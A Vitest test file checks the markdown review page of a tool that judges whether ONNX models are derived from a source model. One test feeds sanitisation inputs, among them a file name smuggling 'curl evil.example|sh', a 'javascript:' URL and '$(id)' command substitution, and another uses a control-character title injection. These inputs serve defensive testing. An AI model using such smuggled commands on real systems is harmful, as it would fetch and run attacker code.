import { describe, expect, it } from "vitest";
import { renderReview } from "../../../../src/report/check/markdown/page.ts";
import { titleOf } from "../../../../src/report/check/markdown/words.ts";
import type { Report, ReportResult } from "../../../../src/report/check/schema.ts";
import { shapeErrors, shown } from "../../../support/markdown.ts";
import { randomResults } from "../../../support/random-results.ts";
import { everyVerdict, makeOrigin, makeReport, makeReportFingerprint, makeResult } from "../../../support/report.ts";

const review = (report: Report, budget?: number) => shown(renderReview(report, budget));
const table = (text: string) => text.split("\n").filter((line) => /^\| <code>/.test(line));

describe("renderReview", () => {
  it("says the verdict first, in one plain sentence", () => {
    const text = review(makeReport());
    expect(text).toMatch(
      /^## ❌ 1 of 4 models looks derived from source\.onnx\n\n❌ 1 derived, ⚠️ 1 error, ❔ 1 inconc/,
    );
    expect(review(makeReport([makeResult()]))).toMatch(/^## ❌ This model looks derived from source\.onnx\n\n\|/);
    const [honest] = everyVerdict();
    expect(review(makeReport([honest]))).toMatch(/^## ✅ This model looks unrelated to source\.onnx\n/);
  });

  it("has a row for every model, the gravest first, told apart without colours", () => {
    const text = review(makeReport());
    expect(shapeErrors(text)).toEqual([]);
    const rows = table(text).map((row) => row.split(" | "));
    expect(rows.map(([model, verdict]) => `${model} ${verdict}`)).toEqual([
      "| <code>models/suspect.onnx</code> ❌ **derived**",
      "| <code>models/broken.onnx</code> ⚠️ **error**",
      "| <code>models/blind.onnx</code> ❔ **inconclusive**",
      "| <code>models/honest.onnx</code> ✅ **unrelated**",
    ]);
    expect(rows[0].slice(2)).toEqual(["answers, 4.3 spreads beyond 7 references", "`██│██░░░░░░` |"]);
    expect(rows[1].slice(2)).toEqual(["MODEL_TRUNCATED", "– |"]);
  });

  it("gives the distance beside its limit where that decides, and nowhere else", () => {
    expect(review(makeReport())).not.toContain("istance");
    const text = review(makeReport([makeResult({ rule: "threshold", threshold: 0.2, distance: 0.063 })]));
    expect(table(text)[0]).toContain(" | answers, distance 0.063 (limit 0.200) | ");
  });

  it("names the source of each row where there are several fingerprints", () => {
    const source = { name: "other.onnx", sha256: "e".repeat(64) };
    const fingerprints = [makeReportFingerprint(), makeReportFingerprint({ id: "2", path: "2.sac", source })];
    const results = [makeResult(), makeResult({ fingerprint: "2", verdict: "unrelated" })];
    const text = review(makeReport(results, { fingerprints }));
    expect(text).toContain("| Model | Compared with | Verdict |");
    expect(table(text)[1]).toContain("| <code>models/suspect.onnx</code> | <code>other.onnx</code> | ✅");
    const rotated = [makeReportFingerprint(), makeReportFingerprint({ id: "2", path: "2.sac" })];
    expect(table(review(makeReport(results, { fingerprints: rotated })))[1]).toContain(
      "<code>source.onnx (2.sac)</code>",
    );
    expect(text).toContain("Fingerprint <code>2.sac</code>");
  });

  it("puts before the table what bears on whether to trust it, and what explains it after", () => {
    const text = review(makeReport(undefined, { origin: makeOrigin() }));
    const at = (part: string) => {
      expect(text).toContain(part);
      return text.indexOf(part);
    };
    expect(at("> - This change touches the fingerprint source.sac")).toBeLessThan(at("| Model |"));
    expect(at("- More files are changed than GitHub lists")).toBeGreaterThan(at("| Model |"));
    expect(at("- No unrelated model has the architecture vgg.")).toBeGreaterThan(at("| Model |"));
  });

  it("says what kept models from being judged, and how to mend it", () => {
    expect(review(makeReport())).toContain(
      "- ⚠️ <code>models/broken.onnx</code>: **error**. <code>MODEL_TRUNCATED</code>: The model ends too early. **Fix:** Fetch it again.\n",
    );
    expect(review(makeReport())).toContain("**inconclusive**. It gives the same answer to every image.");
  });

  it("says what the verdict is worth and what to do", () => {
    const text = review(makeReport(undefined, { origin: makeOrigin() }));
    expect(text).toContain("never proof of theft");
    expect(text).toContain("1. **Hold this change until a person has looked at it.**");
    expect(review(makeReport())).toContain("1. **Hold releases of the model until");
    expect(text).toContain("No verdict is no pass.");
    const [honest] = everyVerdict();
    expect(review(makeReport([honest]))).not.toContain("proof of theft");
    expect(review(makeReport([honest]))).toContain("**What to do next.** Nothing needs to be done.");
  });

  it("tells where the report comes from and how to repeat it, folded", () => {
    const text = review(makeReport(undefined, { origin: makeOrigin() }));
    expect(text).toContain("[the run](https://github.com/octo-org/models/actions/runs/3)");
    expect(text).toContain(
      `git fetch origin pull/7/head\ngit checkout ${"2".repeat(40)}\nsac check source.sac -- 'models/*.onnx'\n`,
    );
    expect(text).toContain(`SHA-256 <code>${"b".repeat(64)}</code>`);
    expect(text).toContain("Ran on: cpu (asked for: cpu)");
  });

  it("makes no link of what is no run's address, and checks nothing out that is no commit", () => {
    const results = [makeResult({ path: "a;curl evil.example|sh.onnx" })];
    for (const runUrl of ["https://evil.example/", "javascript:alert(1)", "https://a/b/c/actions/runs/3) [x](y"]) {
      const text = renderReview(makeReport(results, { origin: makeOrigin({ runUrl, commit: "$(id)", head: "`id`" }) }));
      expect(text).not.toContain("](");
      expect(text).toContain("```sh\nsac check source.sac");
    }
  });

  it("draws the derived beyond the line, and nothing else", () => {
    const scored = (spreads: number, verdict: ReportResult["verdict"]) =>
      makeResult({ path: `${spreads}.onnx`, sha256: undefined, spreads, verdict, rule: "conformal" });
    const results = [scored(-1, "unrelated"), scored(3, "unrelated"), scored(12, "derived"), scored(1.7, "derived")];
    const bars = table(review(makeReport(results))).map((row) => /`(.*)`/.exec(row)?.[1]);
    expect(bars).toEqual(["██│████████", "██│█░░░░░░░", "██│░░░░░░░░", "░░│░░░░░░░░"]);
    expect(review(makeReport(results))).toContain("Only derived models pass the line │; ▒ is undecided.");
  });

  it("says below the table what is the same in every row", () => {
    const text = review(makeReport([makeResult(), makeResult({ path: "b.onnx", sha256: "b".repeat(64) })]));
    expect(text).toContain("| Model | Verdict |\n");
    expect(text).toContain("<sub>The evidence of both: answers, 4.3 spreads beyond 7 references. Derived at p ≤ 0.002");
    expect(shapeErrors(text)).toEqual([]);
  });

  it("shows identical files as one, and counts them", () => {
    const copies = ["a", "b", "c", "d"].map((name) => makeResult({ path: `${name}.onnx` }));
    const text = review(makeReport([...copies, ...everyVerdict().slice(0, 2)]));
    expect(table(text)[0]).toMatch(
      /^\| <code>a\.onnx<\/code>, <code>b\.onnx<\/code>, <code>c\.onnx<\/code> and 1 more \(4 identical files\) \| ❌/,
    );
    expect(table(text)).toHaveLength(3);
  });

  it("does not cut two names so that they are one", () => {
    const paths = ["a", "b"].map((middle) => `${"x".repeat(60)}${middle}${"y".repeat(60)}.onnx`);
    const text = review(makeReport(paths.map((path) => makeResult({ path, sha256: undefined }))));
    for (const path of paths) expect(table(text).join("\n")).toContain(path);
  });

  it("says no sentence twice, whatever was judged", () => {
    for (let seed = 1; seed <= 20; seed += 1) {
      const text = review(makeReport(randomResults(30, seed)));
      expect(shapeErrors(text)).toEqual([]);
      const said = text.split("\n").filter((line) => !line.startsWith("|") && !line.startsWith("sac check"));
      const sentences = said
        .flatMap((line) => line.split(/(?<=[.!?])\s+(?=[A-Z])/))
        .filter((one) => one.split(" ").length > 4);
      expect(sentences.filter((one, i) => sentences.indexOf(one) !== i)).toEqual([]);
    }
  });

  it("tells a fallback to another device once", () => {
    const reasons = [{ code: "DEVICE_FALLBACK", text: "Run on the CPU." }];
    const text = review(makeReport([makeResult({ reasons }), makeResult({ path: "b.onnx", reasons })]));
    expect(text.match(/Run on the CPU\./g)).toHaveLength(1);
  });

  it("begins with what the frame says", () => {
    const text = shown(renderReview(makeReport(), undefined, { title: "Do not trust this", notes: ["A note."] }));
    expect(text).toMatch(/^## ⚠️ Do not trust this\n/);
    expect(text.indexOf("> - A note.")).toBeLessThan(text.indexOf("| Model |"));
  });
});

describe("a title", () => {
  it("is one line of plain text and short, whatever the source is called", () => {
    const name = `\n::error::@all ${"\u202e模型".repeat(2000)}`;
    const fingerprints = [makeReportFingerprint({ source: { name, sha256: "c".repeat(64) } })];
    const title = titleOf(makeReport(undefined, { fingerprints }));
    expect(title.length).toBeLessThanOrEqual(200);
    expect(title).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(titleOf(makeReport([makeResult()]))).toBe("This model looks derived from source.onnx (models/suspect.onnx)");
  });
});
